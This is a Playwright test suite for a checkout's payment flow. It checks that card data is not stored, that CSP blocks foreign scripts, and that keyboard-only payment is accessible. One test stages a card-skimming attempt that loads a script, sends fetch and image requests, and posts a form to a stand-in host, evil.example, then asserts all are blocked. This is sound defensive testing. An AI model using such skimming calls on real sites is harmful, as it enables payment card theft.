import type { Page } from '@playwright/test'
import { cardNumbersIn, CVC, everythingKept } from './support/card-data.ts'
import {
  acceptAndPay,
  atCheckout,
  CARDS,
  CHECKOUT,
  expectPaid,
  fieldOf,
  newPayer,
  orderButton,
  typeCard,
  wayOf,
} from './support/checkout.ts'
import { expectHeard, listen } from './support/heard.ts'
import { press, walkTo } from './support/keyboard.ts'
import { answerBank, tabInto, typeCardByKeyboard, typeRest } from './support/pay-by-keyboard.ts'
import { expect, test } from './support/payment-test.ts'
import { arrive, hold } from './support/person.ts'

test('case 100 what a person types into the fields is nowhere in the database and in nothing that the server said', async ({
  page,
  app,
  requests,
}) => {
  await atCheckout(page, app)
  await typeCard(page, CARDS.poor)
  await acceptAndPay(page)
  await page.getByRole('link', { name: 'Cambia metodo di pagamento' }).click()
  // A card that was refused goes to the other provider.
  await typeCard(page, '4000000000001000')
  await orderButton(page).click()
  await expectPaid(page)
  const kept = await everythingKept(app)
  expect(kept).toContain('payment_attempt')
  expect(kept).toContain('payments/submit')
  expect(cardNumbersIn(kept)).toEqual([])
  expect(kept).not.toMatch(new RegExp(`\\b(?:cvc|cvv)\\W+${CVC}\\b`, 'i'))
  expect(await page.evaluate(() => JSON.stringify([localStorage, sessionStorage]))).not.toMatch(/4000|9995/)
  expect(requests.toBank).toBeGreaterThan(0)
})

test('case 100 the watch of these tests finds a card, in one piece, in groups and written for an address', () => {
  for (const text of [`{"n":"${CARDS.good}"}`, 'card=4242+4242+4242+4242'.replaceAll('+', ' '), '4000-0000-0000-9995'])
    expect(cardNumbersIn(text)).toHaveLength(1)
  expect(cardNumbersIn('4242424242424241 1795226559958 pi_4242424242424242 ab.4242424242424242')).toEqual([])
})

test.describe('a stranger’s script', () => {
  test.use({ allowedErrors: [/Content Security Policy|TrustedScriptURL/] })

  test('case 101 is stopped at the checkout, by its address and by who writes it', async ({ page, app }) => {
    await atCheckout(page, app)
    await expect(fieldOf(page, 'number')).toBeVisible()
    let isAsked = false
    await page.route('https://evil.example/**', async (route) => {
      isAsked = true
      await route.fulfill({ contentType: 'text/javascript', body: 'window.stolen = true' })
    })
    const stopped = await page.evaluate(async () => {
      const found: string[] = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => found.push(effectiveDirective))
      const script = document.createElement('script')
      try {
        script.src = 'https://evil.example/steal.js'
      } catch (error) {
        found.push((error as Error).name)
      }
      await fetch('https://evil.example/?card=1').catch(() => undefined)
      const form = document.createElement('form')
      Object.assign(form, { action: 'https://evil.example/', method: 'post' })
      document.body.append(form)
      const kept = new Promise<void>((resolve) =>
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (effectiveDirective === 'form-action') resolve()
        }),
      )
      form.submit()
      const image = new Image()
      const failed = new Promise((resolve) => image.addEventListener('error', resolve))
      image.src = 'https://evil.example/?card=1'
      await Promise.all([failed, kept])
      return found
    })
    for (const rule of ['TypeError', 'connect-src', 'form-action', 'img-src']) expect(stopped).toContain(rule)
    expect(isAsked).toBe(false)
    const response = await page.request.get(`${app.url}${CHECKOUT}`)
    expect(response.headers()['content-security-policy']).not.toMatch(/unsafe-(?:inline|eval)|https:/)
  })

  test('I-04 case 101 R-202 the provider itself is a stranger wherever nobody pays; the way to the checkout brings a document of its own', async ({
    page,
    app,
    bank,
  }) => {
    const payer = await newPayer(app)
    await hold(app, payer.person, payer.stay, payer.codes)
    await arrive(page, payer.person)
    await page.goto('/tabs/carrello')
    const toPayment = page.getByRole('button', { name: /^Vai al pagamento/ })
    await expect(toPayment).toBeVisible()
    expect(await refusedOf(page, bank.url)).toEqual([
      'TypeError',
      'connect-src',
      'frame-src',
      'require-trusted-types-for',
    ])
    await toPayment.click()
    await typeCard(page, CARDS.good)
    await page.goBack()
    await expect(toPayment).toBeVisible()
    await page.goForward()
    await typeCard(page, CARDS.good)
    await acceptAndPay(page)
    await expectPaid(page)
    // What led to it is behind: back goes to the root of the tab.
    await page.goBack()
    await expect(page).toHaveURL(/\/tabs\/home$/)
  })
})

/** What the policy of the open document does not let a provider do, of what it needs where one pays. */
function refusedOf(page: Page, provider: string): Promise<string[]> {
  return page.evaluate(async (origin) => {
    const refused = new Set<string>()
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective))
    const script = document.createElement('script')
    try {
      script.src = `${origin}/js/stripe.js`
    } catch (error) {
      // The page itself has judged it: nothing that a provider brings is trusted here.
      refused.add((error as Error).name)
    }
    await fetch(`${origin}/v1/payment_intents`, { mode: 'no-cors' }).catch(() => undefined)
    const frame = document.createElement('iframe')
    frame.src = `${origin}/_frames/card`
    // The report may come after the frame has loaded the page that says no.
    const reported = new Promise<void>((resolve) =>
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        if (effectiveDirective === 'frame-src') resolve()
      }),
    )
    document.body.append(frame)
    await reported
    frame.remove()
    return [...refused].toSorted()
  }, provider)
}

test('A-02 B-15 B-21 a card pays by the keyboard alone: what is missing, a refusal and the end are heard, and the focus is where it goes on', async ({
  page,
  app,
}) => {
  const payer = await newPayer(app)
  await hold(app, payer.person, payer.stay, payer.codes)
  await arrive(page, payer.person)
  await listen(page)
  await page.goto('/tabs/carrello')
  await expect(page.getByRole('timer')).toBeVisible()
  await press(page, page.getByRole('button', { name: /^Vai al pagamento/ }))
  await expect(fieldOf(page, 'number')).toBeVisible()
  await walkTo(page, wayOf(page, /^Carta Credito/))
  await tabInto(page, fieldOf(page, 'cvc'))
  await press(page, page.getByRole('checkbox'), 'Space')
  await expect(orderButton(page)).toBeEnabled()
  await press(page, orderButton(page))
  await expectHeard(page, /^Scrivi il numero della carta/, 'assertive')
  await expect(fieldOf(page, 'number')).toBeFocused()
  await page.keyboard.type(CARDS.poor)
  await typeRest(page)
  await press(page, orderButton(page))
  await expectHeard(page, /non è andato a buon fine.*la disponibilità non basta/, 'assertive')
  await expect(page.getByRole('main')).toBeFocused()
  await press(page, page.getByRole('link', { name: 'Riprova' }))
  await walkTo(page, wayOf(page, /^Carta Credito/))
  await typeCardByKeyboard(page, CARDS.challenged)
  await press(page, orderButton(page))
  await expectHeard(page, /^Pagamento in corso/, 'polite')
  await answerBank(page, 'Approve')
  await expectPaid(page)
  await expectHeard(page, /^Ci vediamo .*pagato/, 'polite')
})
